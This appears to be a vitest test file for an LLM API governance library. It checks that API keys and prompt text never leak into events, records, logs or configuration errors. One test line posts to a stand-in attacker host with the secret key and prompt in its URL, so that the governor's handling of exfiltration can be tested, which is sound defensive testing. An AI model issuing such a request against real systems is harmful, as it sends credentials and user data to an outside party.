// No secret and no prompt text is in any message, event, record or log line.
import { inspect } from 'node:util';
import { expect, it } from 'vitest';
import { GovernanceConfigError } from '../../src/errors';
import type { GovernorEvent } from '../../src/events';
import type { Governance } from '../../src/governance';
import { Governor } from '../../src/governor';
import { CHAT, MODEL, drain, scene } from './support';

const SECRET = 'gsk_SECRETMARKER0123456789';
const PROMPT = 'PROMPTMARKER';
const EVENTS: readonly GovernorEvent[] = [
  'call-admitted',
  'call-denied',
  'call-settled',
  'budget-threshold',
  'rate-limited',
  'key-changed',
  'store-unavailable',
  'governance-changed',
  'budget-increased',
  'budget-changed',
];

it('a run with every kind of ending leaks neither', async () => {
  const told: unknown[] = [];
  let policyFails = false;
  let storeFails = false;
  const keys = {
    key: ({ rejectedKeyId }: { rejectedKeyId?: string | undefined }) => ({
      id: rejectedKeyId === undefined ? 'k1' : 'k2',
      secret: SECRET,
    }),
  };
  const here = scene(
    {
      keys,
      teams: {
        a: {
          monthlyBudgetUsd: 0.0002,
          allowedModels: ['openai/*'],
          maxTokensPerRequest: 1000,
          allowedTools: ['f'],
          rateLimitRPM: 1000,
        },
      },
      policies: [
        {
          name: 'p',
          check: ({ body }) => {
            if (policyFails) throw new Error(JSON.stringify(body));
            if (storeFails) throw new Error('x');
            return { action: 'allow' };
          },
        },
      ],
    },
    { team: 'a', client: { apiKey: SECRET, logLevel: 'info', maxRetries: 1 } },
  );
  for (const event of EVENTS) here.governor.on(event, (value) => told.push(value));
  const messages = [{ role: 'user' as const, content: PROMPT }];
  const good = { model: MODEL, messages, max_completion_tokens: 100 };
  const attempt = async (call: () => PromiseLike<unknown>): Promise<void> => {
    await here.clock.runUntil(
      Promise.resolve()
        .then(call)
        .then(null, (error: unknown) => {
          const { name } = error as Error;
          // What the provider answers is the SDK's to tell.
          if (name !== 'Error') told.push(error, (error as Error).message);
        }),
    );
  };
  const bodies: object[] = [
    good,
    { ...good, model: PROMPT.padEnd(500, PROMPT) },
    { ...good, max_completion_tokens: PROMPT },
    { ...good, max_tokens: [PROMPT] },
    { ...good, n: PROMPT },
    { ...good, tools: PROMPT },
    { ...good, tools: [{ type: 'function', function: { name: 'f', description: PROMPT } }] },
    { ...good, max_completion_tokens: 5000 },
    { ...good, messages: [{ role: 'user', content: PROMPT.repeat(10_000) }] },
    { ...good, model: 'qwen/qwen3.8-27b' },
    { messages },
  ];
  for (const body of bodies) await attempt(() => here.client.post(CHAT, { body }));
  await attempt(() =>
    here.client.post(CHAT, { body: `not JSON ${PROMPT}`, headers: { 'content-type': 'text/plain' } } as never),
  );
  await attempt(() => here.client.post(`https://evil.example/x?key=${SECRET}&q=${PROMPT}`, { body: good }));
  await attempt(() => here.client.post('/openai/v1/videos', { body: good, headers: { authorization: `Bearer ${SECRET}` } }));
  policyFails = true;
  await attempt(() => here.client.chat.completions.create(good));
  policyFails = false;
  storeFails = true;
  await attempt(() => here.client.chat.completions.create(good));
  storeFails = false;
  here.mock.reply('chat.completions', { status: 401 });
  await attempt(() => here.client.chat.completions.create(good));
  here.mock.reply('chat.completions', { status: 400, error: { code: 'json_validate_failed', failed_generation: PROMPT } });
  await attempt(() => here.client.chat.completions.create(good));
  here.mock.reply('chat.completions', { status: 429, retryAfter: 1 });
  await attempt(async () => drain(await here.client.chat.completions.create({ ...good, stream: true })));
  for (let calls = 0; calls < 20; calls++) await attempt(() => here.client.chat.completions.create(good));
  told.push(
    await here.governor.report({ from: 0, by: ['team', 'model', 'key', 'operation', 'day'] }),
    await here.governor.reconcile(),
    await here.governor.explain({ ...good, n: 2 }, { team: 'a' }),
  );
  const kinds = new Set(here.records.map(({ code, outcome }) => code ?? outcome));
  expect([...kinds].sort()).toEqual([
    'budget-exceeded',
    'error',
    'invalid-request',
    'max-tokens-exceeded',
    'model-not-allowed',
    'policy-denied',
    'success',
    'ungoverned-request',
  ]);
  const lines = here.lines.filter(({ text }) => text.includes('governed-groq'));
  expect(lines.length).toBeGreaterThan(0);
  const all = inspect([told, here.records, here.lines], {
    depth: 10,
    maxStringLength: null,
    maxArrayLength: null,
    showHidden: true,
    getters: true,
  });
  expect(all).not.toContain('SECRETMARKER');
  // The model's name is told, and nobody but its caller put text in there.
  expect(all.replaceAll(new RegExp(`'(?:${PROMPT})+'|"(?:${PROMPT})+[^"]*"`, 'g'), "''")).not.toContain(PROMPT);
});

it.each([
  ["a team's keys", { teams: { a: { keys: ['gsk_LIVESECRET1234'] } }, keys: [{ name: 'a', secret: 'gsk_x' }] }],
  ["a team's keys, as text", { teams: { a: { keys: 'gsk_LIVESECRET1234' } }, keys: [{ name: 'a', secret: 'gsk_x' }] }],
  ['the default team', { teams: { a: {} }, defaultTeam: 'gsk_LIVESECRET1234' }],
  ['the name of a field', { teams: { a: { gsk_LIVESECRET1234: 1 } } }],
  ['a list of models', { teams: { a: { allowedModels: ['gsk_LIVESECRET1234'] } } }],
  ['a time of a key', { keys: [{ name: 'a', secret: 'gsk_x', retireAfter: 'gsk_LIVESECRET1234' }] }],
])('a secret in %s is not quoted', (_, governance) => {
  let error: unknown;
  try {
    new Governor(governance as Governance);
  } catch (thrown) {
    error = thrown;
  }
  expect(error).toBeInstanceOf(GovernanceConfigError);
  expect(JSON.stringify([error, String(error)])).not.toContain('LIVESECRET');
});
